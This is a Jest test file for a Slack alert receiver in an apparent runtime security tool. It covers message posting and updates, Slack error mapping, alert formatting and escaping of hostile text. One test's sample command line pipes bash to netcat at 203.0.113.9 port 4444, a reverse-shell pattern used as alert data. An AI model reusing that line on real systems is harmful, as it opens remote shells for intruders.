import { afterEach, describe, expect, test } from '@jest/globals';
import { createHttp } from '../../../functions/adapters/http.ts';
import { createSlack } from '../../../functions/adapters/receivers/slack.ts';
import {
  BLOCKS_LIMIT,
  type Block,
  BUTTON_URL_LIMIT,
  BUTTON_VALUE_LIMIT,
  escaped,
  FALLBACK_LIMIT,
  messageOf,
  plainMessageOf,
  TEXT_LIMIT,
} from '../../../functions/adapters/receivers/slack-message.ts';
import type { Notification } from '../../../functions/core/notification.ts';
import type { SendOutcome } from '../../../functions/core/ports.ts';
import { binaryNotification, HOSTILE, notificationWith, shellNotification } from '../../fixtures/notifications.ts';
import { type Answerer, type Loopback, startLoopback } from '../loopback.ts';
import { manualTimers } from '../timers.ts';
import { receiverContract } from './contract.ts';

const TOKEN = 'xoxb-0000-T0PS3CRET';
const CHANNEL = 'C0123456789';
const never = new AbortController().signal;
const POSTED = JSON.stringify({ ok: true, channel: CHANNEL, ts: '1503435956.000247' });

const no = (error: string): string => JSON.stringify({ ok: false, error });

receiverContract({
  kind: 'slack',
  create: ({ url, http, clock, allowPrivate }) =>
    createSlack({
      name: 'chat',
      options: { channel: CHANNEL, token: TOKEN, url: `${url}/api`, allow_private: allowPrivate, buttons: true },
      http,
      clock,
    }),
  accept: (_request, response) => void response.end(POSTED),
  denials: [
    ['invalid_auth', no('invalid_auth'), 'misconfigured'],
    ['not_authed', no('not_authed'), 'misconfigured'],
    ['token_revoked', no('token_revoked'), 'misconfigured'],
    ['token_expired', no('token_expired'), 'misconfigured'],
    ['account_inactive', no('account_inactive'), 'misconfigured'],
    ['missing_scope', no('missing_scope'), 'misconfigured'],
    ['channel_not_found', no('channel_not_found'), 'misconfigured'],
    ['not_in_channel', no('not_in_channel'), 'misconfigured'],
    ['is_archived', no('is_archived'), 'misconfigured'],
    ['restricted_action', no('restricted_action'), 'misconfigured'],
    ['ratelimited', no('ratelimited'), 'retry'],
    ['internal_error', no('internal_error'), 'retry'],
    ['fatal_error', no('fatal_error'), 'retry'],
    ['service_unavailable', no('service_unavailable'), 'retry'],
    ['request_timeout', no('request_timeout'), 'retry'],
    ['msg_too_long', no('msg_too_long'), 'refused'],
    ['msg_blocks_too_long', no('msg_blocks_too_long'), 'refused'],
    ['invalid_blocks', no('invalid_blocks'), 'refused'],
    ['an error unknown so far', no('new_error'), 'misconfigured'],
    ['an error that quotes the token', no(`bad token ${TOKEN}`), 'misconfigured'],
    ['yes without the message', '{"ok":true}', 'retry'],
    ['a login page', '<html>Sign in</html>', 'retry'],
    ['nothing', '', 'retry'],
  ],
  endless: 'retry',
  secrets: [TOKEN, 'T0PS3CRET', CHANNEL],
});

const open: { close(): Promise<void> }[] = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((each) => each.close()));
});

async function exchange(
  notification: Notification,
  answer: Answerer,
): Promise<{ outcome: SendOutcome; server: Loopback }> {
  const server = await startLoopback(answer);
  const http = createHttp({ after: manualTimers().after });
  open.push(server, http);
  const options = { channel: CHANNEL, token: TOKEN, url: `${server.url}/api/`, allow_private: true, buttons: true };
  const outcome = await createSlack({ name: 'chat', options, http, clock: () => 0 }).send(notification, never);
  return { outcome, server };
}

const accept: Answerer = (_request, response) => void response.end(POSTED);
const reference = { channel: 'C0999999999', ts: '1.2' };

describe('sending', () => {
  test('a page is posted to the channel and gives the message back', async () => {
    const { outcome, server } = await exchange(shellNotification, accept);
    expect(outcome).toEqual({ kind: 'delivered', reference: { channel: CHANNEL, ts: '1503435956.000247' } });
    const [request] = server.received;
    expect([request?.path, request?.headers.authorization]).toEqual(['/api/chat.postMessage', `Bearer ${TOKEN}`]);
    expect(JSON.parse(request?.body ?? '')).toMatchObject({
      channel: CHANNEL,
      unfurl_links: false,
      unfurl_media: false,
      link_names: false,
      parse: 'none',
      metadata: { event_payload: { message_id: shellNotification.messageId } },
    });
    expect(request?.body).not.toContain(TOKEN);
  });

  test('an update changes the message it refers to', async () => {
    const { outcome, server } = await exchange({ ...shellNotification, type: 'update', reference }, accept);
    expect(outcome.kind).toBe('delivered');
    expect(server.received.map(({ path }) => path)).toEqual(['/api/chat.update']);
    expect(JSON.parse(server.received[0]?.body ?? '')).toMatchObject(reference);
  });

  test.each([
    ['a page, even with a reference', { ...shellNotification, reference }],
    ['an update without a reference', { ...shellNotification, type: 'update' as const }],
    ['an update with a reference of another receiver', { ...shellNotification, type: 'update' as const, reference: 7 }],
  ])('%s is a new message', async (_name, notification) => {
    const { server } = await exchange(notification, accept);
    expect(server.received.map(({ path }) => path)).toEqual(['/api/chat.postMessage']);
  });

  test.each(['message_not_found', 'cant_update_message', 'edit_window_closed'])(
    'after %s a new message is written',
    async (error) => {
      const { outcome, server } = await exchange(
        { ...shellNotification, type: 'update', reference },
        (request, response) => {
          response.end(request.path.endsWith('chat.update') ? no(error) : POSTED);
        },
      );
      expect(outcome.kind).toBe('delivered');
      expect(server.received.map(({ path }) => path)).toEqual(['/api/chat.update', '/api/chat.postMessage']);
    },
  );

  test('blocks that Slack refuses are sent again as plain words', async () => {
    const { outcome, server } = await exchange(binaryNotification, (request, response) => {
      response.end(request.body.includes('"blocks"') ? no('invalid_blocks') : POSTED);
    });
    expect(outcome.kind).toBe('delivered');
    expect(JSON.parse(server.received[1]?.body ?? '').text).toContain('ran /tmp/.x/kworker, not in image');
  });
});

/** As Slack shows it: code and box marked, buttons in brackets. */
function shown(blocks: readonly Block[]): string {
  return blocks
    .map((block) => {
      if (block.type === 'actions')
        return block.elements.map(({ text, url }) => (url ? text.text : `[${text.text}]`)).join(' ');
      return block.elements
        .map(({ type, elements }) => {
          const inner = elements
            .map(({ text, style }) => (style?.code ? `\`${text}\`` : style?.bold ? `**${text}**` : text))
            .join('');
          return type === 'rich_text_preformatted' ? `\n[box]${inner}[/box]\n` : inner;
        })
        .join('');
    })
    .join('\n');
}

describe('messageOf', () => {
  test('a terminal shell in production', () => {
    expect(shown(messageOf(shellNotification, true).blocks)).toBe(
      [
        '🟠 **Shell in payments/ledger-api**',
        '`bash` · root · pod ledger-api-7c9d-x2x8k · ledger-api:v41',
        'acme-prod/europe-west1/payments-eu1 · node ...g2q1',
        'Since 09:00:02, once; nothing else on this pod',
        'T1059 Command and Scripting Interpreter · execution',
        'First: find out who opened it',
        '[Acknowledge] [Expected, mute 1 h] [Page on-call] [Why?] Logs Pod Runbook',
      ].join('\n'),
    );
  });

  test('a long command has its own box and keeps both ends', () => {
    const lead = {
      fields: { 'proc.cmdline': `bash -c ${'x'.repeat(600)} | nc 203.0.113.9 4444`, 'user.name': 'root' },
    };
    const text = shown(messageOf(notificationWith(lead), false).blocks);
    expect(text).toMatch(/\n\[box\]bash -c x+…\(\+\d+\)x+ \| nc 203\.0\.113\.9 4444\[\/box\]\n · root/);
  });

  test('buttons that act carry the group key and the generation they were drawn for', () => {
    const { blocks } = messageOf({ ...shellNotification, generation: 4 }, true);
    const acting = blocks
      .flatMap((block) => (block.type === 'actions' ? block.elements : []))
      .filter(({ url }) => !url);
    expect(acting.map(({ action_id }) => action_id)).toEqual(['acknowledge', 'mute_1h', 'page_oncall', 'why']);
    for (const { value } of acting) {
      expect(JSON.parse(value ?? '')).toEqual({ groupKey: shellNotification.groupKey, generation: 4 });
    }
  });

  test.each([
    ['open', ['acknowledge', 'mute_1h', 'page_oncall', 'why']],
    ['acknowledged', ['mute_1h', 'page_oncall', 'why']],
    ['resolved', ['why']],
  ] as const)('offers what an incident that is %s allows', (state, expected) => {
    const { blocks } = messageOf({ ...shellNotification, state, links: { query: '' } }, true);
    expect(
      blocks.flatMap((block) => (block.type === 'actions' ? block.elements.map((each) => each.action_id) : [])),
    ).toEqual(expected);
  });

  test('without leave only links are shown, and without links no actions at all', () => {
    const ids = (links: Notification['links']): string[] =>
      messageOf({ ...shellNotification, links }, false).blocks.flatMap((block) =>
        block.type === 'actions' ? block.elements.map(({ action_id }) => action_id) : [],
      );
    expect(ids(shellNotification.links)).toEqual(['open_logs', 'open_console', 'open_runbook']);
    expect(messageOf({ ...shellNotification, links: { query: '' } }, false).blocks).toHaveLength(1);
  });

  test('a link or key that Slack would refuse is left out, not the message', () => {
    const links = { query: '', logs: `https://g.example/${'x'.repeat(BUTTON_URL_LIMIT)}` };
    expect(
      messageOf({ ...shellNotification, links, groupKey: 'k'.repeat(BUTTON_VALUE_LIMIT) }, true).blocks,
    ).toHaveLength(1);
  });

  test.each(HOSTILE)('%s is shown as it is, within the limits', (_name, text) => {
    const fields = {
      'proc.cmdline': text,
      'proc.exepath': text,
      'proc.name': text,
      'user.name': text,
      'fd.name': text,
    };
    const message = messageOf(
      notificationWith(
        { rule: text, fields, where: { namespace: text, pod: text, image: text, node: text } },
        { firstStep: text },
      ),
      true,
    );
    expect(message.blocks.length).toBeLessThanOrEqual(BLOCKS_LIMIT);
    let total = 0;
    for (const block of message.blocks) {
      // Nothing but text elements: no user, channel, broadcast, link or emoji element can come out of an event.
      const elements = block.type === 'rich_text' ? block.elements.flatMap((part) => part.elements) : [];
      for (const element of elements) {
        expect(element.type).toBe('text');
        expect(element.text.length).toBeGreaterThan(0);
        expect(element.text.length).toBeLessThanOrEqual(TEXT_LIMIT);
        total += element.text.length;
      }
    }
    expect(total).toBeLessThan(9_000);
    expect(message.text).not.toMatch(/[<>*_~`]/);
    expect(message.text).not.toMatch(/&(?!amp;|lt;|gt;)/);
    expect(message.text.length).toBeLessThanOrEqual(FALLBACK_LIMIT);
  });

  test.each(HOSTILE)('%s as plain words stays within the limit and unformatted', (_name, text) => {
    const { text: words } = plainMessageOf(notificationWith({ fields: { 'proc.cmdline': text } }, { firstStep: text }));
    expect(words.length).toBeLessThanOrEqual(FALLBACK_LIMIT);
    expect(words).not.toMatch(/[<>*_~`]/);
  });
});

describe('escaped', () => {
  test.each([
    ['<!channel>', '&lt;!channel&gt;'],
    ['a & b', 'a &amp; b'],
    ['&lt;', '&amp;lt;'],
    ['*b* _i_ ~s~ `c`', '∗b∗ ˍiˍ ∼s∼ ˋcˋ'],
  ])('%s', (text, expected) => {
    expect(escaped(text)).toBe(expected);
  });
});
